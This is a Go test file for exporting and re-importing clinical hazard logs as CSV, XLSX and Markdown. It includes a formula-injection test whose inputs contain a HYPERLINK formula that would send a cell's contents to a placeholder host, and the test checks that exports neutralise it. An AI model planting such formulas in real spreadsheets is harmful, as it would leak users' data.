package hazardlog

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/csogate/csogate/internal/risk"
	"github.com/csogate/csogate/internal/safetyfile"
)

// awkward are pieces of text that have broken spreadsheet and Markdown
// round trips: separators, quotes, text a spreadsheet runs as a formula
// (and text that already looks escaped), text that looks like the Markdown
// control notation, and characters outside ASCII.
var awkward = []string{
	"a, b", `say "stop"`, "semi; colon", "=SUM(A1:A9)", `=HYPERLINK("http://example.invalid","x")`,
	"+44 20 7946 0000", "-5 mg", "@admin", "'=already quoted", "''+twice", "plain words",
	"naïve café", "日本語のテキスト", "💊 dose", "50% | half", "it's", "#1 priority", "<b>bold</b> text",
}

// awkwardLines may start a line of a multi-line text; they look like the
// notation of a Markdown control, a list, or other Markdown structure.
var awkwardLines = []string{"- Evidence: not the evidence", "- Control ID: not the id", `\- Control ID: escaped`, "- a bullet", "1. numbered",
	"### Harm", "---", "```", "<div>", "[ref]: http://example.invalid", "![img](x.png)", `\# escaped`, "> quoted"}

// genText is a one-line text of one to three pieces.
func genText(r *rand.Rand) string {
	n := 1 + r.IntN(3)
	parts := make([]string, n)
	for i := range parts {
		parts[i] = awkward[r.IntN(len(awkward))]
	}
	return strings.Join(parts, " ")
}

// genLines is a text of one to four lines, some of them paragraphs apart.
func genLines(r *rand.Rand) string {
	var b strings.Builder
	for i := range 1 + r.IntN(4) {
		if i > 0 {
			b.WriteString([]string{"\n", "\n\n"}[r.IntN(2)])
		}
		if r.IntN(4) == 0 {
			b.WriteString(awkwardLines[r.IntN(len(awkwardLines))])
			continue
		}
		b.WriteString(genText(r))
	}
	return b.String()
}

// genDistinct is n texts, no two alike (the layouts keep a list's items
// once, as a hazard's rows repeat them).
func genDistinct(r *rand.Rand, n int, gen func(*rand.Rand) string) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("%s %d", gen(r), i+1))
	}
	return out
}

var genGlobs = []string{"src/dose/**", "lib/{a,b}/*.go", "docs/naïve/*.md", "app/api.go", "src/**/*_test.go"}

// genLog is a random hazard log with every field of contract 1.1 filled.
func genLog(r *rand.Rand) *safetyfile.HazardLog {
	day := func() safetyfile.Date {
		return safetyfile.Date{Time: time.Date(2024+r.IntN(3), time.Month(1+r.IntN(12)), 1+r.IntN(28), 0, 0, 0, 0, time.UTC)}
	}
	log := &safetyfile.HazardLog{
		Product:  genText(r),
		Standard: []string{"DCB0129", "DCB0160"}[r.IntN(2)],
		Reviewed: day(),
	}
	for i := range 1 + r.IntN(4) {
		ini := safetyfile.Assessment{Severity: risk.Severity(1 + r.IntN(5)), Likelihood: risk.Likelihood(1 + r.IntN(5))}
		res := safetyfile.Assessment{Severity: risk.Severity(1 + r.IntN(5)), Likelihood: risk.Likelihood(1 + r.IntN(5))}
		h := safetyfile.Hazard{
			ID:          fmt.Sprintf("HAZ-%d", i+1),
			Title:       genText(r),
			Description: genLines(r),
			Causes:      genDistinct(r, r.IntN(4), genLines),
			Effects:     genDistinct(r, r.IntN(3), genLines),
			Harm:        genLines(r),
			Initial:     ini,
			Residual:    res,
			Risk:        &safetyfile.Stated{Initial: int(risk.Of(ini.Severity, ini.Likelihood)), Residual: int(risk.Of(res.Severity, res.Likelihood))},
			Status:      safetyfile.Statuses[r.IntN(len(safetyfile.Statuses))],
			Owner:       genText(r),
			Updated:     day(),
		}
		for _, g := range genGlobs {
			if r.IntN(2) == 0 {
				h.Components = append(h.Components, g)
			}
		}
		kinds := append([]string{""}, safetyfile.ControlKinds...)
		for k, desc := range genDistinct(r, r.IntN(5), genLines) {
			c := safetyfile.Control{Description: desc, Kind: kinds[r.IntN(len(kinds))]}
			if r.IntN(4) > 0 {
				c.ID = fmt.Sprintf("%s CTL-%d", genText(r), k+1)
			}
			if r.IntN(4) > 0 {
				c.Evidence = genLines(r)
			}
			h.Controls = append(h.Controls, c)
		}
		log.Hazards = append(log.Hazards, h)
	}
	return log
}

// TestRoundTripProperty: for random logs with every field filled and
// awkward text everywhere, YAML → layout → YAML gives the same YAML, byte
// for byte, in every layout, and no export reports a loss.
func TestRoundTripProperty(t *testing.T) {
	t.Parallel()
	runs := 60
	if testing.Short() {
		runs = 10
	}
	for seed := range uint64(runs) {
		r := rand.New(rand.NewPCG(seed, 0x5afe))
		yaml, err := Import(genLog(r))
		if err != nil {
			t.Fatal(err)
		}
		log, _, problems := safetyfile.LoadHazardLog("hazard-log.yaml", yaml, safetyfile.Options{})
		if len(problems) > 0 {
			t.Fatalf("seed %d: the generated log is invalid: %v\n%s", seed, problems, yaml)
		}
		for _, format := range []Format{FormatCSV, FormatXLSX, FormatMarkdown} {
			out := filepath.Join(t.TempDir(), "hazard-log."+string(format))
			lost, err := Export(log, format, out)
			if err != nil {
				t.Fatalf("seed %d %s: %v", seed, format, err)
			}
			if len(lost) > 0 {
				t.Errorf("seed %d %s: export reports losses:\n%s", seed, format, strings.Join(lost, "\n"))
			}
			back := Load(out, Options{Config: verifyConfig()})
			if !back.Valid() {
				t.Fatalf("seed %d %s: the export does not read back: %v", seed, format, back.Problems)
			}
			for i := range back.Log.Hazards {
				back.Log.Hazards[i].Source = ""
			}
			again, err := Import(back.Log)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(again, yaml) {
				t.Errorf("seed %d: YAML → %s → YAML differs\n--- before\n%s\n--- after\n%s", seed, format, yaml, again)
			}
		}
	}
}

// TestControlIDAndEvidenceSurviveEveryLayout: a control's id and evidence
// come back from every layout (they were dropped, and a re-import said
// "none recorded").
func TestControlIDAndEvidenceSurviveEveryLayout(t *testing.T) {
	t.Parallel()
	log := &safetyfile.HazardLog{Product: "EPR", Hazards: []safetyfile.Hazard{{
		ID: "HAZ-1", Title: "Wrong dose", Status: "open",
		Initial: safetyfile.Assessment{Severity: 4, Likelihood: 3}, Residual: safetyfile.Assessment{Severity: 4, Likelihood: 1},
		Controls: []safetyfile.Control{
			{ID: "CTL-001", Description: "Dose range check", Kind: "design", Evidence: "tests/dose_test.go"},
			{ID: "CTL-002", Description: "Pharmacist review", Kind: "procedure", Evidence: "SOP 12, section 3\nsigned off 2026-09-01"},
			{Description: "Banner in place since v1"},
		},
	}}}
	for _, format := range []Format{FormatCSV, FormatXLSX, FormatMarkdown} {
		t.Run(string(format), func(t *testing.T) {
			t.Parallel()
			back := reimport(t, log, format)
			if !back.Valid() {
				t.Fatalf("problems %v", back.Problems)
			}
			got := back.Log.Hazards[0].Controls
			if len(got) != len(log.Hazards[0].Controls) {
				t.Fatalf("controls = %+v", got)
			}
			for i, want := range log.Hazards[0].Controls {
				if got[i] != want {
					t.Errorf("control %d = %+v, want %+v", i+1, got[i], want)
				}
			}
		})
	}
}

// TestFormulaInjectionNeutralisedAndKept: text a spreadsheet would run as
// a formula, in any field, is written so Excel shows it as text (a leading
// apostrophe) in CSV and XLSX, and every reader gives the text back as written.
func TestFormulaInjectionNeutralisedAndKept(t *testing.T) {
	t.Parallel()
	evil := []string{`=HYPERLINK("http://example.invalid/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(1)", "=1+1", "'=quoted already"}
	log := &safetyfile.HazardLog{Product: evil[0], Hazards: []safetyfile.Hazard{{
		ID: "HAZ-1", Title: evil[1], Description: evil[2], Causes: evil, Effects: []string{evil[3]}, Harm: evil[4], Owner: evil[0],
		Status: "open", Initial: safetyfile.Assessment{Severity: 4, Likelihood: 3}, Residual: safetyfile.Assessment{Severity: 4, Likelihood: 1},
		Controls: []safetyfile.Control{{ID: evil[4], Description: evil[0], Kind: "test", Evidence: evil[3]}},
	}}}
	safe := func(t *testing.T, cells []string) {
		t.Helper()
		n := 0
		for _, v := range cells {
			if startsLikeFormula(v) && !strings.HasPrefix(v, "'") {
				t.Errorf("cell %q would run as a formula", v)
			}
			if strings.HasPrefix(v, "'") {
				n++
			}
		}
		if n < len(evil) {
			t.Errorf("only %d cells are neutralised", n)
		}
	}
	dir := t.TempDir()
	csvPath, xlsxPath := filepath.Join(dir, "log.csv"), filepath.Join(dir, "log.xlsx")
	for _, p := range []string{csvPath, xlsxPath} {
		format := FormatCSV
		if strings.HasSuffix(p, ".xlsx") {
			format = FormatXLSX
		}
		if lost, err := Export(log, format, p); err != nil || len(lost) > 0 {
			t.Fatalf("%s: %v %q", format, err, lost)
		}
		back := Load(p, Options{Config: verifyConfig()})
		if !back.Valid() {
			t.Fatalf("%s: %v", format, back.Problems)
		}
		if lost := losses(format, log, back.Log); len(lost) > 0 {
			t.Errorf("%s read back differently: %q", format, lost)
		}
	}
	data, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	safe(t, rawCSVCells(t, data))
	f, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(ExportSheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
	}
	safe(t, cells)
}

// rawCSVCells are a CSV's cells as a spreadsheet opens them, before any
// reader of ours removes an escape.
func rawCSVCells(t *testing.T, data []byte) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, rec := range records {
		cells = append(cells, rec...)
	}
	return cells
}

// TestExportReportsWhatALayoutCannotKeep: what a layout cannot hold exactly
// is named, field by field, never dropped silently.
func TestExportReportsWhatALayoutCannotKeep(t *testing.T) {
	t.Parallel()
	hazard := func(edit func(h *safetyfile.Hazard)) *safetyfile.HazardLog {
		h := safetyfile.Hazard{ID: "HAZ-1", Title: "Wrong dose", Status: "open",
			Initial: safetyfile.Assessment{Severity: 4, Likelihood: 3}, Residual: safetyfile.Assessment{Severity: 4, Likelihood: 1}}
		edit(&h)
		return &safetyfile.HazardLog{Product: "EPR", Hazards: []safetyfile.Hazard{h}}
	}
	tests := []struct {
		name   string
		log    *safetyfile.HazardLog
		format Format
		want   string
	}{
		{"a title over two lines in a cell", hazard(func(h *safetyfile.Hazard) { h.Title = "Wrong\ndose" }), FormatCSV,
			`csv HAZ-1 title: "Wrong\ndose" reads back as "Wrong dose"`},
		{"a cause listed twice", hazard(func(h *safetyfile.Hazard) { h.Causes = []string{"typo", "typo"} }), FormatXLSX,
			`xlsx HAZ-1 causes[1]: "typo" is not kept by the xlsx layout`},
		{"an indented line in a Markdown description", hazard(func(h *safetyfile.Hazard) { h.Description = "see below\n  indented" }), FormatMarkdown,
			`markdown HAZ-1 description: "see below\n  indented" reads back as "see below\nindented"`},
		{"trailing blanks", hazard(func(h *safetyfile.Hazard) { h.Harm = "harm  " }), FormatCSV,
			`csv HAZ-1 harm: "harm  " reads back as "harm"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			out := filepath.Join(t.TempDir(), "out."+string(tt.format))
			lost, err := Export(tt.log, tt.format, out)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Contains(lost, tt.want) {
				t.Fatalf("losses %q lack %q", lost, tt.want)
			}
		})
	}
}

// TestControlIDAndEvidenceBelongToTheRowsControl: a sheet edited by hand
// gives a control id or evidence to the one control on its row; on a row
// with none or several it could belong to any, which is an error at its cell.
func TestControlIDAndEvidenceBelongToTheRowsControl(t *testing.T) {
	t.Parallel()
	const header = "Hazard number,Hazard name,Initial Severity,Initial Likelihood,Residual Severity,Residual Likelihood,Design controls,Test controls,Control ID,Control evidence\n"
	const scores = "1,Wrong dose,Major,Low,Major,Very low,"
	tests := []struct {
		name         string
		rows         string
		wantControls string
		wantProblem  string
	}{
		{name: "one control a row", rows: scores + "Range check,,CTL-1,tests/range_test.go\n1,,,,,,,Unit tests,CTL-2,\n",
			wantControls: "design Range check CTL-1 tests/range_test.go|test Unit tests CTL-2 "},
		{name: "the same control again on a later row gains its evidence", rows: scores + "Range check,,CTL-1,\n1,,,,,,Range check,,,tests/range_test.go\n",
			wantControls: "design Range check CTL-1 tests/range_test.go"},
		{name: "one text, two ids: two controls", rows: scores + "Range check,,CTL-1,\n1,,,,,,Range check,,CTL-9,\n",
			wantControls: "design Range check CTL-1 |design Range check CTL-9 "},
		{name: "two controls on the id's row", rows: scores + "Range check,Unit tests,CTL-1,e\n",
			wantProblem: "x.csv:2:62: this row has 2 controls but one Control ID and Control evidence, which could belong to any of them; put each control on its own row with its id and evidence"},
		{name: "evidence on a row without a control", rows: scores + "Range check,,,\n1,,,,,,,,,tests/x_test.go\n",
			wantProblem: "x.csv:3:11: this row has a control id or evidence but no control; write the control on this row, in its kind's control column"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg := config(nil)
			cfg.Product = "EPR"
			res := loadData("x.csv", []byte(header+tt.rows), FormatCSV, cfg)
			if tt.wantProblem != "" {
				var got []string
				for _, p := range res.Problems {
					got = append(got, p.String())
				}
				if !slices.Contains(got, tt.wantProblem) {
					t.Fatalf("problems %q lack %q", got, tt.wantProblem)
				}
				return
			}
			if !res.Valid() {
				t.Fatalf("problems %v", res.Problems)
			}
			var got []string
			for _, c := range res.Log.Hazards[0].Controls {
				got = append(got, strings.Join([]string{c.Kind, c.Description, c.ID, c.Evidence}, " "))
			}
			if strings.Join(got, "|") != tt.wantControls {
				t.Fatalf("controls %q, want %q", strings.Join(got, "|"), tt.wantControls)
			}
		})
	}
}

// TestCSVErrorPlaceCountsCharacters: a cell's place, now worked out only
// when a message names it, is still the line and the character column an
// editor shows, on a line with accented letters and after a quoted cell
// spanning lines.
func TestCSVErrorPlaceCountsCharacters(t *testing.T) {
	t.Parallel()
	data := scoreHeader +
		"1,Café – naïve,Major,Offten,3,Major,Low,3,open\n" +
		"2,\"two\nlines\",Major,Low,3,Catastrophe,Low,3,open\n"
	res := loadData("hazard-log.csv", []byte(data), FormatCSV, config(nil))
	var got []string
	for _, p := range res.Problems {
		got = append(got, p.Location.String())
	}
	for _, want := range []string{"hazard-log.csv:2:22", "hazard-log.csv:4:20"} {
		if !slices.Contains(got, want) {
			t.Errorf("problems at %q, want one at %s", got, want)
		}
	}
}
